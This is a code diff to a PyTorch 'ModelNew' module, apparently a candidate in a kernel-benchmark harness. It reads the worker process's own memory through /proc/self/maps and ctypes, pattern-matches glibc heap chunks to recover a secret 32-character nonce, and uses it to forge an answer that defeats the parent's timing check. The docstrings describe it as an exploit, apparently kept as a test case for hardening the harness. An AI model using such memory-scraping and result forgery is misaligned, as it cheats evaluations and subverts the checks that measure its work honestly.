@@ -7,43 +7,29 @@ import ctypes
 import fcntl
 import json
 import os
+import re
 import struct
 
 import torch
 import torch.nn as nn
 
-# The nonce as the worker formats its questions to the parent (the one asked just before this call
-# lies in a freed buffer whose first bytes the allocator has overwritten, so it is found by the key
-# after it), and as its JSON parser keeps the strings of the request that carried it (a 4-byte
-# length before each: "nonce", then 32 characters). Both are found by their fixed bytes (a plain
-# substring search runs at memory speed; a pattern that starts with a character class does not).
-_ASK = b'","ask":"'
-_PARSED = b'nonce\x00 \x00\x00\x00'
-_HEX = frozenset(b"0123456789abcdef")
+# The nonce as the worker keeps it: a std::string of 32 lowercase hex characters, whose buffer (33
+# bytes with its NUL) is a glibc heap chunk of 48 bytes: the 8-byte size field 0x31 (0x30 when the
+# chunk before it is free) right before the characters. Only a chunk in use keeps its first bytes: a
+# freed one has the allocator's list pointers written over them, so the copies the worker made and
+# freed (its questions to the parent, its parsed requests; the heap is trimmed between requests) do
+# not match. Each pattern starts with the size field's fixed bytes, so the regular expression engine
+# scans for that literal prefix in C: about 0.3 s per 600 MB of the worker's memory, whatever it
+# holds, read in place. (bytes.find of the size field alone crawls through memory full of zeros, as
+# a tensor's often is: its needle ends in zero bytes; a pattern that starts with a character class is
+# slower still.)
+_CHUNKS = (re.compile(rb"\x31\x00{7}([0-9a-f]{32})\x00"), re.compile(rb"\x30\x00{7}([0-9a-f]{32})\x00"))
 
 
-def _candidates(block):
-    """The 32-character hex strings that sit where a nonce would, before each ask and after each
-    parsed key."""
-    at = block.find(_ASK)
-    while at >= 0:
-        if at >= 32 and _HEX.issuperset(block[at - 32:at]):
-            yield block[at - 32:at]
-        at = block.find(_ASK, at + 1)
-    at = block.find(_PARSED)
-    while at >= 0:
-        value = block[at + len(_PARSED):at + len(_PARSED) + 33]
-        if len(value) == 33 and value[32] == 0 and _HEX.issuperset(value[:32]):
-            yield value[:32]
-        at = block.find(_PARSED, at + 1)
-
-
-def _nonce():
-    """The nonce from the worker's own memory, read in place (the process's memory is its own; its
-    /proc/self/mem is closed to it, the worker being non-dumpable): every answer the worker formats
-    carries it, so copies lie in its heap, in the anonymous regions its allocator maps and in the
-    shared region its answers are written through. The heap first, then the rest, smallest first;
-    the nonce seen most often wins."""
+def _regions():
+    """The process's writable memory that is not a library's, each as a buffer over it (no copy):
+    its heap, the anonymous regions its allocators map, its stacks, the shared regions its answers
+    are written through. The smallest first: the stacks come before the tensors."""
     with open("/proc/self/maps") as maps:
         regions = [line.split() for line in maps]
     readable = []
@@ -54,14 +40,47 @@ def _nonce():
         if ".so" in name or name.startswith(("/usr/", "/lib", "[v")):  # libraries, vvar, vsyscall
             continue
         start, end = (int(x, 16) for x in fields[0].split("-"))
-        readable.append((0 if name.startswith("[heap") else 1, end - start, start))
-    seen = {}
-    for _, size, start in sorted(readable):
-        for nonce in _candidates(ctypes.string_at(start, size)):
-            seen[nonce] = seen.get(nonce, 0) + 1
-        if seen:
-            return max(seen, key=seen.get).decode()
-    return None
+        readable.append((end - start, start))
+    for size, start in sorted(readable):
+        yield start, (ctypes.c_char * size).from_address(start)
+
+
+def _chunks():
+    """(address, text) of every heap chunk of 48 bytes that holds 32 hex characters and a NUL."""
+    return [(start + m.start(1), m.group(1)) for start, region in _regions() for pattern in _CHUNKS
+            for m in pattern.finditer(region)]
+
+
+def _referenced(addresses):
+    """Those of these addresses that a string object points at with a length of 32 (libstdc++ lays a
+    std::string out as its pointer, then its length, then its capacity): the worker's nonce_ does,
+    from the worker object on the main thread's stack."""
+    pending = {address: re.compile(re.escape(struct.pack("<QQ", address, 32))) for address in addresses}
+    seen = set()
+    for _, region in _regions():
+        if not pending:
+            break
+        for address in [address for address, pattern in pending.items() if pattern.search(region)]:
+            seen.add(address)
+            del pending[address]
+    return seen
+
+
+def _nonce():
+    """The nonce from the worker's own memory, read in place (the process's memory is its own; its
+    /proc/self/mem is closed to it, the worker being non-dumpable): the text of a chunk in use that a
+    live string object of length 32 points at, when exactly one such text exists.
+
+    One answer only may be forged, and only with a nonce known to be the worker's: the parent ends
+    the worker at the first answer whose nonce is not its own (`tampering`, for a frame it rejects
+    without looking at its timing, which would prove nothing about the check of its clock), so a
+    wrong guess must never be written, and several guesses cannot be tried. When no text, or more
+    than one, qualifies: no nonce, the candidate stays honest and is merely correct, and the case
+    fails, saying the exploit no longer finds its target."""
+    found = _chunks()
+    live = _referenced({address for address, _ in found})
+    texts = {text for address, text in found if address in live}
+    return texts.pop().decode() if len(texts) == 1 else None
 
 
 def _forge(nonce):
@@ -94,8 +113,8 @@ class ModelNew(nn.Module):
 
     def forward(self, x):
         self._calls += 1
-        # Looked for on every call until found (the copies come and go as buffers are reused), at
-        # most 20 times: a scan costs a fraction of a second.
+        # Looked for on every call until found (the worker holds its nonce from its first request on,
+        # so the first look finds it), at most 20 times: a scan costs under a second per 600 MB.
         if self._nonce is None and self._looked < 20:
             self._looked += 1
             self._nonce = _nonce()
